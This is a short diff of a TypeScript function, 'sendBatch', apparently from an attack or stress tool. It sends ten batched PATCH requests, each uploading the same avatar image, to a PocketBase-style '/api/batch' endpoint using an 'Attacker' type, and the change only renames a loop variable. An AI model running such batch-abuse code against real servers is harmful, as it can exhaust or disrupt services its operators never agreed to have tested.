@@ -145,8 +145,8 @@ function sendBatch({ url, id, token }: Attacker, picture: Uint8Array): Promise<n
   const path = `/api/collections/users/records/${id}`
   const requests = Array.from({ length: 10 }, () => ({ method: 'PATCH', url: path, body: {} }))
   body.set('@jsonPayload', JSON.stringify({ requests }))
-  for (const at of requests.keys()) {
-    body.set(`requests.${at}.avatar`, new File([new Uint8Array(picture)], 'a.png', { type: 'image/png' }))
+  for (const index of requests.keys()) {
+    body.set(`requests.${index}.avatar`, new File([new Uint8Array(picture)], 'a.png', { type: 'image/png' }))
   }
   return send(`${url}/api/batch`, { method: 'POST', headers: { authorization: token }, body })
 }
